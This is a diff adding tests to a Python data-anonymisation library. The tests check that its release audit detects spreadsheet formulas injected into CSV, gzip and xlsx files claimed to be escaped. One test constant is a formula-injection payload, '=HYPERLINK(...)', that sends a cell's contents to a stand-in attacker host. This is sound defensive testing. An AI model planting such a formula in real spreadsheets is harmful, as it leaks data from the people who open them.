@@ -6,6 +6,7 @@ cells, and `escape-formulas` puts an apostrophe before each; all audits of the f
 from __future__ import annotations
 
 import csv
+import gzip
 import json
 import subprocess
 import sys
@@ -20,6 +21,7 @@ from pyarrow import parquet
 
 import shoal
 from shoal.read.formulas import escaped, formula_cells, restored
+from tests.attacks.evidence import check, refit
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1)'
 DISEASES = [EVIL, "@flu", "+49 30 1", "'=old", "-5", "cold", "\tx", "flu"]
@@ -128,6 +130,70 @@ def test_a_formula_that_was_not_escaped_is_a_label_of_its_own(people: pa.Table, 
     assert found.measured == "smallest class 1, 2 classes fail"
     (found, *_) = shoal.audit_release(release, asked).findings
     assert found.measured == "smallest class 1, 2 classes fail"
+
+
+@pytest.mark.parametrize("kind", ["csv", "csv.gz", "xlsx"])
+@pytest.mark.parametrize("cell", [EVIL, "@SUM(1)", "-1+1", "\uff1d1+1"])
+def test_a_live_formula_in_a_release_that_says_it_has_none(tmp_path: Path, kind: str, cell: str) -> None:
+    """The attacker rewrites a cell, or a name, of a release whose manifest says `escape-formulas: true`."""
+    table = pa.table({"age": [31] * 4, "note": ["=old", "-5", "-inf", "ok"]})
+    if kind != "xlsx":  # which holds no infinite numbers
+        table = table.append_column("number", pa.array([-1.0, float("-inf")] * 2))
+    asked = shoal.Spec(
+        quasi_identifiers={"age": "suppress"},
+        insensitive=table.column_names[1:],
+        privacy=[shoal.KAnonymity(4)],
+        escape_formulas=True,
+    )
+    release = shoal.anonymize(table, asked).write(tmp_path / f"release.{kind}")
+    assert not shoal.audit_release(release).fails
+    assert kind == "xlsx" or check(release)[0] == 0
+    honest = release.read_bytes()
+
+    def renamed(said: dict[str, Any]) -> None:
+        for columns in (said["spec"]["columns"], said["linkable"]["columns"]):
+            columns[cell] = columns.pop("note")
+
+    for old, change in (("'=old", lambda said: None), ("note", renamed)):
+        release.write_bytes(honest)
+        _replace_cell(release, old, cell)
+        refit(release, change)
+        found = {finding.claim: finding for finding in shoal.audit_release(release).findings}
+        assert not found["cells like formulas escaped"].holds
+        if kind != "xlsx":
+            code, said = check(release)
+            assert code == 1
+            assert "cells like formulas escaped: FAILS" in said, said
+
+
+def _replace_cell(release: Path, old: str, new: str) -> None:
+    if release.suffix == ".xlsx":
+        from openpyxl import load_workbook
+
+        book = load_workbook(release)
+        (cell,) = (cell for row in book.active.iter_rows() for cell in row if cell.value == old)
+        cell.value = new
+        cell.data_type = "s"
+        book.save(release)
+        return
+    data = release.read_bytes()
+    text = gzip.decompress(data) if release.suffix == ".gz" else data
+    quoted = '"' + new.replace('"', '""') + '"' if '"' in new else new
+    assert text.count(old.encode()) == 1
+    text = text.replace(old.encode(), quoted.encode())
+    release.write_bytes(gzip.compress(text, mtime=0) if release.suffix == ".gz" else text)
+
+
+def test_a_workbook_without_text(tmp_path: Path) -> None:
+    """Only numbers, which need no apostrophes: the audit of the file to be written crashed."""
+    table = pa.table({"sex": [1, 2] * 4, "income": [10, 20, 30, 40] * 2})
+    asked = shoal.Spec(
+        quasi_identifiers={"sex": "suppress"},
+        sensitive=["income"],
+        privacy=[shoal.KAnonymity(2)],
+        escape_formulas=True,
+    ).adjust(levels={"sex": 0})
+    assert shoal.audit_release(shoal.anonymize(table, asked).write(tmp_path / "release.xlsx")).holds
 
 
 def test_names_of_columns(tmp_path: Path) -> None:
